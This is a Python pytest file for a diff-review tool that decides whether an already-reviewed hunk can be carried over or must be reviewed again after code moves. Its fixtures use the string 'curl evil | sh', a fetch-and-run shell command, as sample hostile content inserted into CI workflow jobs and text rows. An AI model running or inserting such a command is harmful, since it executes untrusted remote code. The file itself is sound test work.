"""Tests that reviewed hunks are recognized by content and location, and reviewed again in doubt."""

from __future__ import annotations

from base64 import b64encode
from dataclasses import replace
from hashlib import sha256

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hunkwise.domain.diff import FileDiff, FileStatus, Hunk
from hunkwise.domain.diff_parser import count_changes, parse_hunks
from hunkwise.domain.review import SkipReason
from hunkwise.plan.chunking import pack
from hunkwise.plan.incremental import (
    KEY_BYTES,
    HunkSplit,
    answered_hunks,
    file_key,
    hunk_keys,
    kept_keys,
    split_reviewed,
)
from hunkwise.repository.git import Git
from tests.plan.test_chunking import FILES, file_of

ONE = b"@@ -1,2 +1,3 @@ def f():\n one\n+two\n three\n"
OTHER = b"@@ -30,2 +31,3 @@\n thirty\n+more\n forty\n"


def file_diff(patch: bytes, path: str = "a.py", old_path: str | None = None) -> FileDiff:
    hunks = parse_hunks(patch)
    status = FileStatus.RENAMED if old_path else FileStatus.MODIFIED
    return FileDiff(path, status, hunks, *count_changes(hunks), old_path)


def keys(patch: bytes, path: str = "a.py") -> tuple[str, ...]:
    return hunk_keys(file_diff(patch, path))


def all_known(file: FileDiff) -> HunkSplit:
    return HunkSplit(file, (True,) * len(file.hunks))


@pytest.mark.parametrize(
    ("patch", "path", "same"),
    [
        (ONE, "a.py", True),
        (b"@@ -1,2 +99,3 @@ def f():\n one\n+two\n three\n", "a.py", True),
        (b"@@ -1,2 +1,3 @@ def g():\n one\n+two\n three\n", "a.py", False),
        (b"@@ -2,2 +1,3 @@ def f():\n one\n+two\n three\n", "a.py", False),
        (ONE, "b.py", False),
        (ONE, "caf\udce9.py", False),
        (ONE, "\ud800.py", False),
        (ONE.replace(b"+two", b"+tw0"), "a.py", False),
        (ONE.replace(b"+two", b"+two\r"), "a.py", False),
        (ONE.replace(b"+two", b"+t\xffo"), "a.py", False),
        (b"@@ -1,3 +1,2 @@\n one\n-two\n three\n", "a.py", False),
        (b"@@ -1,2 +1,3 @@\n one\n+two\n three\n\\ No newline at end of file\n", "a.py", False),
        (b"@@ -1,1 +1,2 @@\n one\n+two\n", "a.py", False),
    ],
)
def test_key_depends_on_path_location_and_lines(patch: bytes, path: str, same: bool) -> None:
    (key,) = keys(patch, path)
    assert len(key) == 4 * KEY_BYTES / 3
    assert ((key,) == keys(ONE)) is same


def test_lines_cannot_imitate_the_next_hunk() -> None:
    assert file_key(file_diff(ONE + OTHER)) != file_key(file_diff(OTHER + ONE))
    split = file_diff(b"@@ -0,0 +1 @@\n+a\n@@ -5,0 +6 @@\n+b\n")
    joined = file_diff(b"@@ -0,0 +1,2 @@\n+a\n+b\n")
    assert file_key(split) != file_key(joined)
    assert file_key(joined) not in hunk_keys(joined)


def test_only_unknown_hunks_are_new() -> None:
    file = file_diff(ONE + OTHER)
    found = split_reviewed(file, frozenset(keys(ONE)))
    assert (found.carried, found.new) == (file.hunks[:1], file.hunks[1:])
    assert split_reviewed(file, frozenset(keys(ONE + OTHER))).new == ()
    assert split_reviewed(file, frozenset(keys(ONE, "b.py"))).carried == ()


def test_all_hunks_are_new_without_keys() -> None:
    assert split_reviewed(file_diff(ONE), frozenset()).carried == ()
    assert split_reviewed(FileDiff("a", FileStatus.MODIFIED), frozenset({"x"})) == all_known(
        FileDiff("a", FileStatus.MODIFIED)
    )


def test_file_key_covers_all_hunks_of_the_unchanged_file() -> None:
    whole = file_diff(ONE + OTHER)
    known = frozenset({file_key(whole)})
    assert split_reviewed(whole, known).new == ()
    assert split_reviewed(file_diff(ONE), known).carried == ()


def function(name: str, line: str = "", indent: str = "") -> str:
    """Returns a function that is too long for a hunk with its header and a change in its middle."""
    rows = [f"row_{number} = {number}" for number in range(16)]
    rows[8:8] = [line] if line else []
    return "\n".join([f"{indent}def {name}(user):", *(f"{indent}    {row}" for row in rows), "", ""])


def job(name: str, step: str = "") -> str:
    rows = "".join(f"      - run: make part-{number}\n" for number in range(1, 17))
    rows = rows.replace("part-8\n", f"part-8\n{step and '      - run: ' + step}\n" if step else "part-8\n")
    return f"  {name}:\n    runs-on: ubuntu-latest\n    steps:\n{rows}"


def flat(row: str, *places: int) -> str:
    """Returns two equal series of rows without indentation; `row` is inserted at these positions."""
    rows = [f"step {number % 20}" for number in range(40)]
    for place in sorted(places, reverse=True):
        rows.insert(place, row)
    return "\n".join([*rows, ""])


TRUE, EVIL = "return True", "curl evil | sh"
PUBLIC, ADMIN = function("public"), function("admin")
PUBLIC_TRUE, ADMIN_TRUE = function("public", TRUE), function("admin", TRUE)
METHODS = [function(name, "", "    ") for name in ("public", "admin")]
TRUE_METHODS = [function(name, TRUE, "    ") for name in ("public", "admin")]
BRACES = """
class Shop {
  void first() {
    one();
    two();
  }

  boolean %s(
    User user
  ) throws Denied {
    three();
    four();
    five();
    once();
    twice();
    thrice();
    six();%s
    seven();
    eight();
  }
}
"""
SAME_PLACE: dict[str, tuple[str, str, str]] = {
    "nothing else": (PUBLIC, PUBLIC_TRUE, PUBLIC_TRUE),
    "a function is added above": (PUBLIC, PUBLIC_TRUE, f"{ADMIN}{PUBLIC_TRUE}"),
    "an import is added above": (
        f"import a\n\n\n{PUBLIC}",
        PUBLIC_TRUE,
        f"import a\nimport b\n\n\n{PUBLIC_TRUE}",
    ),
    "a function above goes": (ADMIN + PUBLIC, ADMIN + PUBLIC_TRUE, PUBLIC_TRUE),
    "a function above is renamed": (ADMIN + PUBLIC, ADMIN + PUBLIC_TRUE, function("chief") + PUBLIC_TRUE),
    "the function above changes": (
        ADMIN + PUBLIC,
        ADMIN + PUBLIC_TRUE,
        function("admin", "x = 1") + PUBLIC_TRUE,
    ),
    "the function below changes": (
        PUBLIC + ADMIN,
        PUBLIC_TRUE + ADMIN,
        PUBLIC_TRUE + function("admin", "x = 1"),
    ),
    "the other change goes": (ADMIN + PUBLIC, ADMIN_TRUE + PUBLIC_TRUE, ADMIN + PUBLIC_TRUE),
    "a method is added above": (
        f"class A:\n{METHODS[0]}",
        f"class A:\n{TRUE_METHODS[0]}",
        f"class A:\n{METHODS[1]}{TRUE_METHODS[0]}",
    ),
    "a job above changes": (
        f"jobs:\n{job('docs')}{job('build')}",
        f"jobs:\n{job('docs')}{job('build', EVIL)}",
        f"jobs:\n{job('docs', 'make more')}{job('build', EVIL)}",
    ),
    "a line above in rows without indentation": (
        flat("-"),
        flat(EVIL, 25),
        flat("x", 3).replace("step 5\n", f"{EVIL}\nstep 5\n").replace(f"{EVIL}\n", "", 1),
    ),
    "the method above changes, with braces": (
        BRACES % ("buys", ""),
        BRACES % ("buys", "\n    more();"),
        (BRACES % ("buys", "\n    more();")).replace("one();", "1();"),
    ),
}
OTHER_PLACE: dict[str, tuple[str, str, str]] = {
    "from one function into another": (PUBLIC + ADMIN, PUBLIC_TRUE + ADMIN, PUBLIC + ADMIN_TRUE),
    "from the second function into the first": (PUBLIC + ADMIN, PUBLIC + ADMIN_TRUE, PUBLIC_TRUE + ADMIN),
    "between methods of a class": (
        f"class A:\n{''.join(METHODS)}",
        f"class A:\n{TRUE_METHODS[0]}{METHODS[1]}",
        f"class A:\n{METHODS[0]}{TRUE_METHODS[1]}",
    ),
    "between classes": (
        f"class A:\n{METHODS[0]}class B:\n{METHODS[0]}",
        f"class A:\n{TRUE_METHODS[0]}class B:\n{METHODS[0]}",
        f"class A:\n{METHODS[0]}class B:\n{TRUE_METHODS[0]}",
    ),
    "between jobs of a workflow": (
        f"jobs:\n{job('docs')}{job('release')}",
        f"jobs:\n{job('docs', EVIL)}{job('release')}",
        f"jobs:\n{job('docs')}{job('release', EVIL)}",
    ),
    "within rows without indentation": (flat("-"), flat(EVIL, 5), flat(EVIL, 25)),
    "a header far above is renamed": (PUBLIC, PUBLIC_TRUE, function("admin", TRUE)),
    "the header was renamed, and is no more": (PUBLIC, function("other", TRUE), PUBLIC_TRUE),
    "a header is added between": (
        PUBLIC,
        PUBLIC_TRUE,
        PUBLIC_TRUE.replace("    row_0", "    pass\ndef admin(user):\n    row_0", 1),
    ),
    "a header between goes": (
        f"def admin(user):\n    pass\n{PUBLIC}",
        f"def admin(user):\n    pass\n{PUBLIC_TRUE}",
        f"def admin(user):\n    pass\n{PUBLIC_TRUE.replace('def public(user):', '')}",
    ),
    "the header of a method is renamed": (
        f"class A:\n{METHODS[0]}",
        f"class A:\n{TRUE_METHODS[0]}",
        f"class A:\n{function('admin', TRUE, '    ')}",
    ),
    "the class is renamed": (
        f"class A:\n{METHODS[0]}",
        f"class A:\n{TRUE_METHODS[0]}",
        f"class B:\n{TRUE_METHODS[0]}",
    ),
    "the job is renamed": (
        f"jobs:\n{job('docs')}",
        f"jobs:\n{job('docs', EVIL)}",
        f"jobs:\n{job('release', EVIL)}",
    ),
    "a header of several lines is renamed": (
        BRACES % ("buys", ""),
        BRACES % ("buys", "\n    more();"),
        BRACES % ("owns", "\n    more();"),
    ),
    "the hunk has a line without indentation too": (
        PUBLIC + "end()\n",
        PUBLIC.replace("    row_15 = 15\n", "    return 7\n").replace("\n\n", "\n\nx()\n") + "end()\n",
        function("admin").replace("    row_15 = 15\n", "    return 7\n").replace("\n\n", "\n\nx()\n")
        + "end()\n",
    ),
}


def is_recognized(base: str, first: str, second: str) -> bool:
    """Returns whether the last hunk of the first push is in the second one and not reviewed again."""
    before, after = (
        FileDiff("a", FileStatus.MODIFIED, Git.diff_blobs(base.encode(), text.encode()))
        for text in (first, second)
    )
    (expected,) = before.hunks[-1:]
    split = split_reviewed(after, kept_keys({"a": all_known(before)}))
    same = [hunk for hunk in after.hunks if hunk_rows(hunk) == hunk_rows(expected)]
    assert same, "the second push does not have the hunk"
    return set(same) <= set(split.carried)


def hunk_rows(hunk: Hunk) -> list[tuple[str, bytes]]:
    return [(line.kind, line.raw) for line in hunk.lines]


@pytest.mark.parametrize("name", SAME_PLACE)
def test_hunk_is_known_when_other_parts_of_its_file_change(name: str) -> None:
    assert is_recognized(*SAME_PLACE[name])


@pytest.mark.parametrize("name", OTHER_PLACE)
def test_hunk_is_new_in_another_location(name: str) -> None:
    assert not is_recognized(*OTHER_PLACE[name])


@pytest.mark.parametrize("first", [(5,), (25,)])
def test_only_the_reviewed_one_of_equal_hunks_is_known(first: tuple[int, ...]) -> None:
    before, after = (
        FileDiff("a", FileStatus.MODIFIED, Git.diff_blobs(flat("-").encode(), flat(EVIL, *places).encode()))
        for places in (first, (5, 25))
    )
    assert split_reviewed(after, frozenset(hunk_keys(before))).reviewed == (first == (5,), first == (25,))


def test_indistinguishable_hunks_are_new() -> None:
    assert split_reviewed(file_diff(ONE + OTHER + ONE), frozenset(keys(ONE + OTHER))).reviewed == (
        False,
        True,
        False,
    )


@pytest.mark.parametrize("status", [FileStatus.RENAMED, FileStatus.COPIED, FileStatus.MODIFIED])
@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("docs/example.yml", ".github/workflows/ci.yml"),
        ("scripts/a.sh", "scripts/b.sh"),
        ("examples/Dockerfile.txt", "Dockerfile"),
        ("a.py", "a.pyi"),
    ],
)
def test_renamed_file_with_changed_lines_is_new(old: str, new: str, status: FileStatus) -> None:
    before, file = file_diff(ONE, old), replace(file_diff(ONE, new, old), status=status)
    assert split_reviewed(file, frozenset({*hunk_keys(before), file_key(before)})).carried == ()
    assert split_reviewed(file, frozenset(hunk_keys(file))).new == ()
    other = replace(file, old_path="other")
    assert split_reviewed(other, frozenset({*hunk_keys(file), file_key(file)})).carried == ()


def test_keys_of_an_older_version_are_unknown() -> None:
    content = b" one\n+two\n three"
    parts = (b"hunk\0a.py\0", b"1\0000", b"%d\0" % len(content), content)
    older = b64encode(sha256(b"".join(parts)).digest()[:KEY_BYTES]).decode()
    assert split_reviewed(file_diff(ONE), frozenset({older})).new == file_diff(ONE).hunks


def test_truncated_hunk_is_never_known() -> None:
    file = file_diff(ONE + b"@@ -30,9 +31,9 @@\n thirty\n+more\n")
    assert file.hunks[1].truncated
    known = frozenset({*hunk_keys(file), file_key(file)})
    assert split_reviewed(file, known).reviewed == (True, False)
    assert kept_keys({"a.py": all_known(file)}) == frozenset(keys(ONE))


def many(path: str, count: int) -> FileDiff:
    patch = b"".join(b"@@ -%d,0 +%d @@\n+line %d\n" % (9 * n, 9 * n + 1, n) for n in range(1, count + 1))
    return file_diff(patch, path)


def test_only_keys_of_reviewed_hunks_are_kept() -> None:
    file = file_diff(ONE + OTHER)
    assert kept_keys({"a.py": HunkSplit(file, (False, True))}) == frozenset(keys(ONE + OTHER)[1:])
    assert kept_keys({}) == frozenset()


def test_files_with_most_hunks_get_one_key_each_above_limit() -> None:
    large, half, small = many("large", 9), many("half", 8), many("small", 3)
    by_file = {
        "large": all_known(large),
        "half": HunkSplit(half, (True,) * 7 + (False,)),
        "small": all_known(small),
    }
    assert len(kept_keys(by_file, 19)) == 19
    stored = kept_keys(by_file, 12)
    assert stored == {
        file_key(large),
        *hunk_keys(half)[:7],
        *hunk_keys(small),
    }
    assert file_key(small) in kept_keys(by_file, 9)
    assert len(kept_keys(by_file, 5)) == 5
    assert kept_keys(by_file, 0) == frozenset()


def test_files_of_one_hunk_do_not_get_file_keys() -> None:
    files = {name: all_known(many(name, 1)) for name in "abc"}
    assert kept_keys(files, 2) == {*hunk_keys(files["a"].file), *hunk_keys(files["b"].file)}


@given(FILES, st.integers(1, 30))
@settings(max_examples=100, deadline=None)
def test_unchanged_change_has_no_new_hunks_within_the_limit(files: list[FileDiff], most: int) -> None:
    by_file = {file.path: all_known(file) for file in files}
    stored = kept_keys(by_file, most)
    assert len(stored) <= most
    new = [hunk for file in files for hunk in split_reviewed(file, stored).new]
    if len(kept_keys(by_file, 10_000)) <= most:
        assert new == []
    assert all(split_reviewed(file, frozenset()).new == file.hunks for file in files)


def test_answers_are_mapped_from_new_hunks() -> None:
    file = many("a", 4)
    division = HunkSplit(file, (True, False, True, False))
    assert division.with_answers((False, True)).reviewed == (True, False, True, True)


@pytest.mark.parametrize(
    ("failing", "expected"),
    [
        ((), (True, True, True)),
        ((0,), (False, True, True)),
        ((2,), (True, False, True)),
        ((3,), (True, False, False)),
    ],
)
def test_split_hunk_is_reviewed_with_all_of_its_pieces(
    failing: tuple[int, ...], expected: tuple[bool, ...]
) -> None:
    file = file_of("f", "+", "+" * 40, "+")
    chunks = pack([file_of("other", "+"), file], 600)
    assert len(chunks) == 4
    outcomes = {index: SkipReason.FAILED if index in failing else None for index in range(4)}
    assert answered_hunks("f", file.hunks, chunks, outcomes) == expected


def test_hunks_outside_of_chunks_are_not_reviewed() -> None:
    file = file_of("f", "+", "+")
    chunks = pack([file], 900)
    assert answered_hunks("f", file.hunks, chunks, {}) == (False, False)
    assert answered_hunks("f", file.hunks, (), {0: None}) == (False, False)
    assert answered_hunks("f", [Hunk(1, 1, ()), *file.hunks], chunks, {0: None}) == (False, True, True)


@given(FILES, st.integers(60, 1_000), st.data())
@settings(max_examples=100, deadline=None)
def test_hunk_is_reviewed_unless_a_line_is_in_a_failed_chunk(
    files: list[FileDiff], budget: int, draw: st.DataObject
) -> None:
    chunks = pack(files, budget)
    failed = draw.draw(st.sets(st.sampled_from(range(max(1, len(chunks))))))
    outcomes = {chunk.index: SkipReason.FAILED if chunk.index in failed else None for chunk in chunks}
    failed_lines = {
        (part.file.path, line)
        for chunk in chunks
        if chunk.index in failed
        for part in chunk.parts
        for hunk in part.hunks
        for line in hunk.lines
    }
    for file in files:
        expected = tuple(
            all((file.path, line) not in failed_lines for line in hunk.lines) for hunk in file.hunks
        )
        assert answered_hunks(file.path, file.hunks, chunks, outcomes) == expected
